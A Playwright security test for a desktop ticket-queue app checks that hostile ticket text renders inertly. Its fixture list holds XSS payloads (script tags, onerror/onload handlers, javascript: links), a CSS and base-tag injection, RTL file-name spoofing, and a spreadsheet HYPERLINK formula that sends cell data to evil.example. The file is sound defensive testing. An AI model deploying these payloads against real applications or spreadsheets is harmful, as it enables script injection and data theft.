import BetterSqlite from 'better-sqlite3';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { contract, type CallName } from '../../shared/ipc/contract.ts';
import { ask } from './ask.ts';
import { becomeLead, chooseFiles, expect, test, type Console } from './app.ts';
import { CALL } from '../support/desk-calls.ts';

/** Stands in every hostile text: it may be in no log. */
const MARKER = 'zqmarker';
const RUN = 'window.hostile=1';

/** What strangers may write, each of which must be no more than letters. */
const TEXTS: readonly (readonly [string, string])[] = [
  ['SCRIPT', `<script>${RUN}</script><img src=x onerror="${RUN}"><svg onload="${RUN}">${MARKER}`],
  ['LINK', `[click](javascript:${RUN}) <a href="javascript:${RUN}">here</a> javascript:${RUN} ${MARKER}`],
  ['STYLE', `</style><style>*{display:none!important}</style><base href=//evil.example> ${MARKER}`],
  ['RTL', `\u202Etxet desrever\u202C and \u2067isolated and never closed ${MARKER} \u202Eexe.fdp`],
  ['ZALGO', `Z${'\u0310\u0352\u0357\u0301\u0327\u0333'.repeat(40)}algo ${MARKER}`],
  ['LONG', `${MARKER}${'W'.repeat(1_000_000)}`],
  ['NUL', `before\0after ${MARKER} \u0007\u001b[2J`],
  ['SURROGATE', `half \uD83D of a pair ${MARKER}`],
  ['ICU', `{0} {count, plural, other {#}} %s ${'${7*7}'} {{7*7}} ${MARKER}`],
  ['FORMULA', `=HYPERLINK("http://evil.example?"&A1,"${MARKER}")`],
  ['EMPTY', '\u200b\u200b\u2060\u00a0'],
];

const importHostile = async ({ app, page }: Console, userData: string): Promise<void> => {
  const path = join(userData, `${'\u202E'}vsc.${MARKER}<img src=x onerror=alert(1)>.json`);
  const records = TEXTS.map(([name, text]) => ({
    ...{ number: `${name}-${text.slice(0, 30)}`, title: text, customer: `${name} ${text.slice(0, 3_000)}`, priority: 'P2', state: 'open' },
    ...{ opened: new Date(Date.now() - 3_600_000).toISOString(), assignee: `${text.slice(0, 300)} ${name}`, requester: text.slice(0, 300) },
  }));
  writeFileSync(path, JSON.stringify(records));
  await chooseFiles(app, [path]);
  const chosen = await ask(page, 'import:choose-files', { purpose: 'export' });
  const order = { selectionId: chosen?.selectionId ?? '', profile: 'generic', zone: 'Europe/Paris', tierMapId: null, levelMapId: null } as const;
  const report = await ask(page, 'import:run', order);
  expect([report.tickets.new, report.errors]).toEqual([TEXTS.length, []]);
};

/** Nothing ran, nothing was made of it, and what is shown still fits into the window. */
const expectHarmless = async (page: Page): Promise<void> => {
  const seen = await page.evaluate(() => ({
    ran: Reflect.get(window, 'hostile') === undefined,
    made: document.querySelectorAll('#root script, img[src="x"], base, a[href^="javascript:"], svg[onload]').length,
    hidden: getComputedStyle(document.body).display,
    wider: document.documentElement.scrollWidth - document.documentElement.clientWidth,
    taller: document.documentElement.scrollHeight - document.documentElement.clientHeight,
    at: location.origin,
  }));
  expect(seen).toEqual({ ran: true, made: 0, hidden: 'block', wider: 0, taller: 0, at: 'app://vigie' });
};

test('hostile text is shown as text, in its place, wherever it is shown', async ({ own, userData }) => {
  test.setTimeout(180_000);
  const { page } = own;
  await becomeLead(page);
  await importHostile(own, userData);
  const rows = page.getByTestId('queue-row');
  await expect(rows).toHaveCount(TEXTS.length);
  await expectHarmless(page);
  const heights = await rows.evaluateAll((all) => [...new Set(all.map((row) => row.getBoundingClientRect().height))]);
  expect(heights).toHaveLength(1);

  for (const [name] of TEXTS) {
    const row = page.locator(`[data-testid="queue-row"][data-reference^="${name}"]`);
    await row.click();
    await page.keyboard.press('Enter');
    const detail = page.getByTestId('ticket-detail');
    await expect(detail).toContainText(name);
    await expectHarmless(page);
    const inside = await detail.evaluate((one) => one.scrollWidth - one.clientWidth);
    expect([name, inside]).toEqual([name, 0]);
    await page.keyboard.press('Escape');
    await expect(detail).toHaveCount(0);
  }
});
